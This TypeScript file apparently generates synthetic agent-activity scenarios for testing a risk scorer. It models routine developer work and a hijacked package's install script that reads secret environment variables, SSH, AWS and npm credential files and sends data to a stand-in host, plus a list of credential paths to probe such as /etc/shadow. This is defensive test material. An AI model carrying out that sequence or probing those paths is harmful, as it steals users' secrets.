import type { PiTrigger } from '../../risk/pi/triggers.js';
import { numberedPool, poolOf, type LogNormal, type Pool } from './laws.js';

/** A kind of call: what it touches, how long it takes, how much it sends and gets, and how it fails. */
export interface ScenarioKind {
  /** The host's word. */
  readonly capability: 'read' | 'write' | 'http' | 'exec' | 'env';
  /** Tool of the agent; null for the host's own methods. */
  readonly tool: string | null;
  readonly resources: Pool;
  /** Milliseconds. */
  readonly latency: LogNormal;
  /** Bytes of the request. */
  readonly sent: LogNormal;
  /** Bytes of the response. */
  readonly received: LogNormal;
  /** Chance that it fails, and the host's code for it. */
  readonly failure: number;
  readonly error: string;
  /** What its arguments add to the host's base score, and what they trigger. */
  readonly delta: number;
  readonly triggers: readonly PiTrigger[];
  readonly sensitive: boolean;
}

const law = (median: number, sigma: number, tail = 0): LogNormal => ({ median, sigma, tail });

type Given = Partial<ScenarioKind> & Pick<ScenarioKind, 'resources'>;

const file = (capability: 'read' | 'write', given: Given): ScenarioKind => ({
  capability, tool: capability, latency: law(2.5, 0.7), sent: law(capability === 'write' ? 2400 : 90, capability === 'write' ? 1.1 : 0.25),
  received: law(capability === 'read' ? 3800 : 40, capability === 'read' ? 1.2 : 0.2, capability === 'read' ? 0.01 : 0), failure: 0.004, error: 'io', delta: -0.03, triggers: [], sensitive: false, ...given,
});

const exec = (given: Given): ScenarioKind => ({
  capability: 'exec', tool: null, latency: law(60, 0.9), sent: law(110, 0.3), received: law(900, 1.3, 0.01), failure: 0.01, error: 'io', delta: 0.04, triggers: [], sensitive: true, ...given,
});

const http = (given: Given): ScenarioKind => ({
  capability: 'http', tool: null, latency: law(170, 0.6), sent: law(420, 0.3), received: law(18_000, 1.3, 0.02), failure: 0.012, error: 'timeout', delta: 0.14, triggers: ['public_network_target'], sensitive: true, ...given,
});

const env = (names: readonly string[], given: Partial<ScenarioKind> = {}): ScenarioKind => ({
  capability: 'env', tool: null, resources: poolOf(names), latency: law(0.3, 0.4), sent: law(30, 0.2), received: law(40, 0.5), failure: 0, error: 'denied', delta: 0.06, triggers: [], sensitive: false, ...given,
});

const HOME = '/home/dev';

/** Name of a kind of everyday work. */
export type WorkName =
  | 'readSource' | 'search' | 'edit' | 'test' | 'build' | 'status' | 'commit' | 'docs' | 'path'
  | 'install' | 'manifest' | 'registry' | 'unpack' | 'script' | 'readState' | 'upload' | 'publish' | 'artifact';

/** Everyday work, by name. `publish` and `artifact` are rare but approved. */
export const WORK: Readonly<Record<WorkName, ScenarioKind>> = {
  readSource: file('read', { resources: numberedPool(`${HOME}/app/src/part-#/index.ts`, 120) }),
  search: exec({ resources: numberedPool('rg --json word-# src', 80), latency: law(35, 0.6), delta: -0.1 }),
  edit: file('write', { tool: 'edit', resources: numberedPool(`${HOME}/app/src/part-#/index.ts`, 60) }),
  test: exec({ resources: numberedPool('npm test -- part-#', 40), latency: law(2600, 0.6), failure: 0.12 }),
  build: exec({ resources: poolOf(['npm run build', 'npm run build -- --force']), latency: law(6200, 0.35), failure: 0.03 }),
  status: exec({ resources: poolOf(['git status --short', 'git diff --stat', 'git log -5']), latency: law(14, 0.4), delta: -0.18 }),
  commit: exec({ resources: numberedPool('git commit -m change-#', 30), latency: law(45, 0.4) }),
  docs: http({ resources: numberedPool('https://docs.library-#.example/guide', 60), latency: law(240, 0.6) }),
  path: env(['PATH', 'HOME', 'LANG']),
  install: exec({ resources: poolOf(['npm ci', 'npm ci --prefer-offline']), latency: law(9000, 0.4), failure: 0.02 }),
  manifest: file('read', { resources: numberedPool(`${HOME}/app/node_modules/library-#/package.json`, 150), received: law(1700, 0.6) }),
  registry: http({ resources: numberedPool('https://registry.packages.example/library-#', 150), received: law(60_000, 1.4, 0.02) }),
  unpack: file('write', { resources: numberedPool(`${HOME}/app/node_modules/library-#/index.js`, 150), sent: law(9000, 1.4, 0.02) }),
  script: exec({ resources: numberedPool('node node_modules/library-#/install.js', 8), latency: law(300, 0.7) }),
  readState: file('read', { resources: numberedPool(`${HOME}/app/.state/day-#.json`, 20), received: law(2800, 0.5) }),
  upload: http({ resources: poolOf(['https://collect.telemetry.example/v1/batch']), sent: law(3000, 0.9), received: law(160, 0.2) }),
  publish: exec({ resources: poolOf(['npm publish --tag next', 'npm publish']), latency: law(4200, 0.5), failure: 0.05 }),
  artifact: http({ resources: poolOf(['https://registry.packages.example/app']), sent: law(400_000, 0.5), received: law(300, 0.3), latency: law(1900, 0.5) }),
};

const secretEnv = env(['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN', 'GITHUB_TOKEN', 'SESSION_COOKIE'], { delta: 0.22, triggers: ['secret_env_access'] });
const secretFile = (path: string, given: Partial<ScenarioKind> = {}): ScenarioKind =>
  file('read', { resources: poolOf([path]), received: law(1900, 0.4), failure: 0, delta: 0.2, triggers: ['sensitive_path_target'], sensitive: true, ...given });

/** What a hijacked package's install script does, in order. */
export const HIJACK: readonly ScenarioKind[] = [
  exec({ resources: poolOf(['node node_modules/library-3/postinstall.js']), failure: 0 }),
  exec({ resources: poolOf(['id']), latency: law(4, 0.3), failure: 0 }),
  secretEnv,
  secretFile(`${HOME}/.npmrc`),
  secretFile(`${HOME}/.ssh/id_ed25519`),
  secretFile(`${HOME}/.aws/credentials`),
  file('write', { resources: poolOf([`${HOME}/.cache/.node-update`]), failure: 0, delta: 0.1 }),
  http({ resources: poolOf(['https://cdn-metrics.example.net/i']), sent: law(9000, 0.3), received: law(60, 0.2), failure: 0.1 }),
  http({ resources: poolOf(['https://cdn-metrics.example.net/i']), sent: law(9000, 0.3), received: law(60, 0.2), failure: 0.1 }),
];

/** Where credentials are looked for; most are not there. */
export const PROBES: ScenarioKind = file('read', {
  resources: poolOf([
    `${HOME}/.aws/credentials`, `${HOME}/.ssh/id_rsa`, `${HOME}/.ssh/id_ed25519`, `${HOME}/.netrc`, `${HOME}/.npmrc`, `${HOME}/.docker/config.json`, `${HOME}/.kube/config`,
    `${HOME}/.config/gcloud/credentials.db`, `${HOME}/.git-credentials`, '/etc/shadow', '/root/.ssh/id_rsa', '/run/secrets/token', `${HOME}/.azure/tokens.json`, `${HOME}/.gnupg/secring.gpg`,
  ]),
  received: law(600, 0.8), failure: 0.8, delta: 0.2, triggers: ['sensitive_path_target'], sensitive: true,
});

/** Secrets in the environment, looked for in the same way. */
export const PROBED_VARIABLES: ScenarioKind = secretEnv;
